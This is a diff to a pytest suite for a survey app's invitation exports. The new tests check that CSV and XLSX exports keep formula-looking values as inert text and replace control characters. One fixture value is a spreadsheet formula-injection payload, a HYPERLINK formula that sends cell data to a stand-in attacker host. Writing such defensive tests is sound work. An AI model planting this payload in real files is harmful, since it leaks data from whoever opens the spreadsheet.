@@ -14,6 +14,7 @@ from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
 from survey_app.accounts.models import AuditEvent
+from survey_app.core import db
 from survey_app.fieldwork.models import Invitation, InvitationStatus
 from survey_app.fieldwork.services import invitations_export
 
@@ -47,8 +48,9 @@ def test_issue_export_and_qr(app: Flask, world: World, session: Session) -> None
     rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
     assert len(rows) == 30 and set(rows[0]) == {"unit_id", "stratum", "phone", "token", "link", "status", "reminders_sent"}
     tokens = set(session.scalars(select(Invitation.token)))
-    assert {r["token"] for r in rows} == tokens
-    assert all(r["link"] == f"http://localhost/r/{r['token']}" for r in rows) and rows[0]["phone"].startswith("138")
+    written = {r["token"]: r["token"].removeprefix("'") for r in rows}  # a token starting with "-" is written '-... (exporters)
+    assert set(written.values()) == tokens and all(t == w or t == "'" + w and w.startswith("-") for t, w in written.items())
+    assert all(r["link"] == f"http://localhost/r/{written[r['token']]}" for r in rows) and rows[0]["phone"].startswith("138")
 
     xlsx = client.get(f"/admin/draws/{world.draw.id}/invitations.xlsx")
     sheet = load_workbook(io.BytesIO(xlsx.data)).active
@@ -64,6 +66,42 @@ def test_issue_export_and_qr(app: Flask, world: World, session: Session) -> None
     assert client.get(f"/admin/invitations/{invitation.id}/qr.gif").status_code == 422
     exports = session.scalars(select(AuditEvent.details).where(AuditEvent.action == "invitation.export")).all()
     assert exports == [{"format": "csv", "rows": 30}, {"format": "xlsx", "rows": 30}]
+
+
+def test_exports_keep_formula_looking_frame_values_as_text(app: Flask, world: World, session: Session) -> None:
+    formulas = ['"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"', "+1", "-2+3", "@SUM(A1)"]  # frames strip leading tabs
+    lines = ["unit_id,school,size,phone"] + [f"f{i:02d},{formulas[i % 2 + 1]},3,{formulas[i % len(formulas)]}" for i in range(10)]
+    with db.session_factory(app)() as s:
+        frame = make_frame(app, s, s.merge(world.project), s.merge(world.users["owner"]), ("\n".join(lines) + "\n").encode())
+        draw = make_draw(s, s.merge(world.project), frame, s.merge(world.users["owner"]), n=10)
+        draw_id = draw.id
+    typed = [next(csv.reader([value]))[0] for value in formulas]
+    client = world.client_for(app, "owner")
+    assert client.post(f"/admin/draws/{draw_id}/invitations/issue").status_code == 302
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/admin/draws/{draw_id}/invitations.csv").data.decode("utf-8-sig"))))
+    assert sorted(r["phone"] for r in rows) == sorted("'" + typed[i % len(typed)] for i in range(10))
+    assert {r["stratum"] for r in rows} == {"'+1", "'-2+3"} and {r["reminders_sent"] for r in rows} == {"0"}
+    sheet = load_workbook(io.BytesIO(client.get(f"/admin/draws/{draw_id}/invitations.xlsx").data)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    values = list(sheet.iter_rows(min_row=2, values_only=True))
+    assert sorted(v[2] for v in values) == sorted("'" + typed[i % len(typed)] for i in range(10))
+    assert {v[1] for v in values} == {"'+1", "'-2+3"} and {v[-1] for v in values} == {0}
+
+
+def test_xlsx_export_of_frame_values_with_control_characters(app: Flask, world: World, session: Session) -> None:
+    lines = ["unit_id,school,size,phone"] + [f"f{i:02d},s{i % 2},3,138\x01{i:04d}\x1f5" for i in range(10)]
+    with db.session_factory(app)() as s:
+        frame = make_frame(app, s, s.merge(world.project), s.merge(world.users["owner"]), ("\n".join(lines) + "\n").encode())
+        draw_id = make_draw(s, s.merge(world.project), frame, s.merge(world.users["owner"]), n=10).id
+    client = world.client_for(app, "owner")
+    assert client.post(f"/admin/draws/{draw_id}/invitations/issue").status_code == 302
+    text = client.get(f"/admin/draws/{draw_id}/invitations.csv").data.decode("utf-8-sig")
+    assert "138\x010000\x1f5" in text  # CSV keeps every character
+    xlsx = client.get(f"/admin/draws/{draw_id}/invitations.xlsx")
+    assert xlsx.status_code == 200
+    phones = {row[2] for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows(min_row=2, values_only=True)}
+    assert phones == {f"138\ufffd{i:04d}\ufffd5" for i in range(10)}  # XML has no control characters: U+FFFD instead
 
 
 class FakeSMTP:
